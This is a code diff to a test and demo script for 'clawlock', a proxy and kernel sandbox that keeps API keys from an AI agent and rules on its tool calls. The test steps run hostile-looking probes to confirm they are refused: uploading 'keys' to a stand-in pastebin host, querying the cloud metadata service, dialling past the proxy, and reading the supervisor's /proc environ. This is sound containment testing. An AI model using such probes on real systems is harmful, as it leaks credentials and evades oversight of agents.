@@ -5,10 +5,12 @@ import { decide } from "../decide-client.mjs";
 import { replaceFile } from "./clawlock.mjs";
 import { PLACEHOLDER_KEY, shell, started, streamedTurn, tool, turn } from "./openclaw.mjs";
 import { environment, family } from "./proc.mjs";
+import { alive } from "./processes.mjs";
 import { check, seconds } from "./report.mjs";
 import { filesWith } from "./upstreams.mjs";
 import { until } from "./wait.mjs";
 
+const GATES_WITHIN_MS = 30_000;
 const CHANGE_WITHIN_MS = 5_000;
 const MODEL_COOLDOWN_MS = 150_000;
 const LIMIT_NEW_POLICY_MS = 100;
@@ -35,13 +37,13 @@ async function send(w, tell, { method = "GET", url, body, command, gate, wanted 
   return { text, status: Number(/STATUS (\d+)/.exec(text)?.[1]), record };
 }
 
-const operation = (name) => (action) => action.type === "http" && action.operation === name;
+const operation = (name) => (action) => action.type === "http" && action.operation === `payments.${name}`;
 const payments = (w, path) => `${w.payments.url}${path}`;
 
 async function ask(w, tell, name, args) {
   tell.sent(`POST /v1/decide ${JSON.stringify({ tool: name, args })}`);
   const since = w.decisions.mark();
-  const answer = await decide(w.decideUrl, name, args);
+  const answer = await decide(w.ready.decide, name, args);
   tell.got(answer);
   const record = await w.decisions.find(`the decision on ${name}`, since, (r) => r.action.tool === name);
   tell.rule(record);
@@ -51,12 +53,12 @@ async function ask(w, tell, name, args) {
 async function start(w, tell) {
   tell.sent("clawlock dev -- node openclaw.mjs gateway run");
   await w.start();
+  w.ready = await until("the gates", GATES_WITHIN_MS, () => alive(w.dev) && w.events().find((event) => event.event === "ready"));
+  tell.got(`both gates serve; agent ${w.ready.agent}, policies ${w.ready.policies.join(" ")}`);
+  tell.note(`Landlock confines: ${w.ready.confined}`);
+  w.ready.unconfined.forEach((text) => tell.note(`not confined: ${text}`));
   await started(w.agent, w.dev);
-  tell.got(`ready on ${w.agent.url}`);
-  const given = environment(family(w.dev.pid)[1].pid);
-  w.given = given;
-  w.decideUrl = given.CLAWLOCK_DECIDE_URL;
-  check(w.decideUrl, "clawlock tells its child where the decide API is", Object.keys(given).join(" "));
+  tell.got(`OpenClaw serves on ${w.agent.url}`);
 }
 
 /** Checks every process of the agent; returns how many there are. Clawlock itself, which holds the keys, is not one. */
@@ -136,12 +138,15 @@ async function unknownHost(w, tell) {
   const target = "https://pastebin.test/upload";
   const answer = await send(w, tell, { method: "POST", url: target, body: '{"keys":"all"}', gate: "agent", wanted: (_, outcome) => outcome.code === "UnknownUpstream" });
   check(answer.text.includes("403"), "the agent sees a refusal", answer.text);
-  check(answer.record.outcome.verdict === "deny", "it is denied", answer.record.outcome);
+  // In the clear there is no tunnel to refuse, so the problem document itself comes back.
+  const metadata = "http://169.254.169.254/latest/meta-data/";
+  const clear = await send(w, tell, { url: metadata, gate: "agent", wanted: (action) => action.target?.includes("169.254.169.254") });
+  check(clear.status === 403 && clear.record.outcome.verdict === "deny", "the cloud's metadata service is refused", clear.text);
 }
 
 async function nodeFetch(w, tell) {
   const arrived = w.payments.seen.mark();
-  const script = (url) => `fetch("${url}").then(async (r) => console.log("STATUS " + r.status, await r.text()), (e) => console.log("STATUS 0", e.message, e.cause && e.cause.message))`;
+  const script = (url) => `fetch("${url}").then(async (r) => console.log("STATUS " + r.status, await r.text()), (e) => { for (; e; e = e.cause) console.log(e.message); })`;
   const command = (url) => `${quoted(w.node)} -e ${quoted(script(url))}`;
   const url = payments(w, "/v1/charges");
   const good = await send(w, tell, { url, command: command(url), gate: "gateway", wanted: operation("list_charges") });
@@ -176,8 +181,7 @@ const afterNotice = (text) => text.slice(text.lastIndexOf("---\\n") + 1).replace
 
 async function npmInstall(w, tell) {
   const name = "clawlock-demo-greeting";
-  // Where npm's own configuration names a CA file, npm asks only that one: --cafile says which it is.
-  const install = `npm install --prefix package --no-audit --no-fund --no-update-notifier --cafile "$NODE_EXTRA_CA_CERTS" --registry ${w.registry.url} ${name}`;
+  const install = `PATH=${quoted(path.dirname(w.node))}:$PATH npm install --prefix package --no-audit --no-fund --no-update-notifier --registry ${w.registry.url} ${name}`;
   const command = `mkdir -p package && ${install} && cd package && ${quoted(w.node)} -p ${quoted(`require("${name}")`)}`;
   const url = w.registry.url;
   const result = await send(w, tell, { url, command, gate: "gateway", wanted: (action) => action.upstream === "registry" });
@@ -186,12 +190,35 @@ async function npmInstall(w, tell) {
   tell.proof(w.registry.seen.all().map((entry) => entry.url).join(" "));
 }
 
+/** Past the proxy: what the kernel closes, and what is left where it closes nothing. */
+async function around(w, tell) {
+  const arrived = w.payments.seen.mark();
+  const fenced = !w.ready.confined.startsWith("nothing");
+  const dial = `require("net").connect(${w.payments.port}, "127.0.0.1").on("connect", () => { console.log("connected"); process.exit(); }).on("error", (e) => console.log(e.code))`;
+  const command = `${quoted(w.node)} -e ${quoted(dial)}`;
+  tell.sent(command);
+  const dialled = (await shell(w.agent, command)).trim();
+  tell.got(dialled);
+  const peek = `cat /proc/${w.dev.pid}/environ > /dev/null && echo readable || echo refused`;
+  tell.sent(peek);
+  const peeked = (await shell(w.agent, peek)).trim();
+  tell.got(peeked);
+  if (fenced) {
+    check(dialled === "EACCES", "the kernel refuses the connection", dialled);
+    if (process.getuid() === 0) tell.note("this demo runs as root, from whom no variable is kept; clawlock said so at its start");
+    else check(peeked.endsWith("refused"), "the kernel keeps clawlock's variables from the agent", peeked);
+  } else {
+    tell.note("this kernel confines nothing: here only the upstream's own check of the key stands in the way");
+  }
+  check(arrived().length === 0, "nothing reached the payment service", arrived());
+}
+
 /** Asks about a tool in a tight loop until the answer is the wanted one; returns it with the time since the change. */
 async function untilDecided(w, name, change, wanted) {
   const before = performance.now();
   change();
   return until("the new policy", CHANGE_WITHIN_MS, async () => {
-    const answer = await decide(w.decideUrl, name, { path: "/workspace/notes" });
+    const answer = await decide(w.ready.decide, name, { path: "/workspace/notes" });
     return wanted(answer) && { answer, ms: performance.now() - before };
   });
 }
@@ -205,6 +232,16 @@ async function editRule(w, tell) {
   await until("the stream's first event", CHANGE_WITHIN_MS, () => opened().length === 1 && read(w, "events.txt").includes("event"));
 
   const original = fs.readFileSync(w.policyFile, "utf8");
+  try {
+    await tightened(w, tell, original, closed);
+  } finally {
+    // Whatever happened above, the steps that follow are told under the policy that they know.
+    const back = await untilDecided(w, "read", () => replaceFile(w.policyFile, original), (a) => a.decision === "allow");
+    tell.note(`edit taken back: allowed again after ${seconds(back.ms)}`);
+  }
+}
+
+async function tightened(w, tell, original, closed) {
   const edited = original.replaceAll("tier: Auto    # the story edits this line", "tier: Block    # edited");
   check(edited !== original, "the policy has the lines to edit");
   tell.sent("edit openclaw.yaml: tier Auto becomes Block in rules reading and looking");
@@ -220,14 +257,30 @@ async function editRule(w, tell) {
 
   const next = await send(w, tell, { url: payments(w, "/v1/charges"), gate: "agent", wanted: operation("list_charges") });
   check(next.status === 403 && next.record.outcome.rule === "reading", "the next request is refused by the edited rule", next.text);
-  const back = await untilDecided(w, "read", () => replaceFile(w.policyFile, original), (a) => a.decision === "allow");
-  tell.note(`edit taken back: allowed again after ${seconds(back.ms)}`);
 }
 
 const read = (w, name) => {
   const file = path.join(w.agent.workspace, name);
   return fs.existsSync(file) ? fs.readFileSync(file, "utf8") : "";
 };
+
+async function brokenEdit(w, tell) {
+  const original = fs.readFileSync(w.policyFile, "utf8");
+  const broken = original.replace("- name: shell\n    match: {tools: [exec]}\n    tier: Auto", "- name: shell\n    match: {tools: [exec]}\n    tier: Sometimes");
+  check(broken !== original, "the policy has the lines to break");
+  try {
+    tell.sent("edit openclaw.yaml: tier Auto becomes Sometimes in rule shell");
+    replaceFile(w.policyFile, broken);
+    const problem = await until("a word on the broken edit", CHANGE_WITHIN_MS, () => w.events().findLast((e) => e.problems?.length)?.problems[0]);
+    tell.got(`${path.basename(problem.file)}:${problem.line}:${problem.column}: ${problem.message}`);
+    check(problem.file.endsWith("openclaw.yaml") && problem.line === 1 + broken.split("\n").findIndex((line) => line.includes("Sometimes")), "it names file and line", problem);
+    const { answer } = await ask(w, tell, "exec", { command: "ls -l" });
+    check(answer.decision === "allow" && answer.rule === "shell", "the last good version holds", answer);
+  } finally {
+    replaceFile(w.policyFile, original);
+  }
+  await until("the end of the problem", CHANGE_WITHIN_MS, () => w.events().findLast((e) => e.problems)?.problems.length === 0);
+}
 
 async function halt(w, tell) {
   const command = request(w, "GET", payments(w, "/v1/charges"));
@@ -254,7 +307,7 @@ async function halt(w, tell) {
 async function resume(w, tell) {
   const loop = read(w, "loop.txt").length;
   tell.sent("AgentHalt inc-42 taken out of the folder");
-  const { ms } = await untilDecided(w, "read", () => fs.rmSync(w.haltFile), (a) => a.decision === "allow");
+  const { ms } = await untilDecided(w, "read", () => fs.rmSync(w.haltFile, { force: true }), (a) => a.decision === "allow");
   await until("a good answer in the loop", CHANGE_WITHIN_MS, () => read(w, "loop.txt").slice(loop).includes("STATUS 200"));
   fs.writeFileSync(path.join(w.agent.workspace, "stop"), "");
   tell.proof(`resumed ${seconds(ms)} after the file was gone; the loop in the agent's shell went on by itself`);
@@ -292,7 +345,9 @@ export const STEPS = [
   ["OpenClaw's shell, Node's fetch", nodeFetch],
   ["OpenClaw's web_fetch", webFetch],
   ["OpenClaw's shell, npm install", npmInstall],
+  ["OpenClaw's shell, past the proxy", around],
   ["a rule is edited under an open stream", editRule],
+  ["a broken edit keeps the last good policy", brokenEdit],
   ["the agent is halted", halt],
   ["the agent is resumed", resume],
   ["where the keys are", canary],
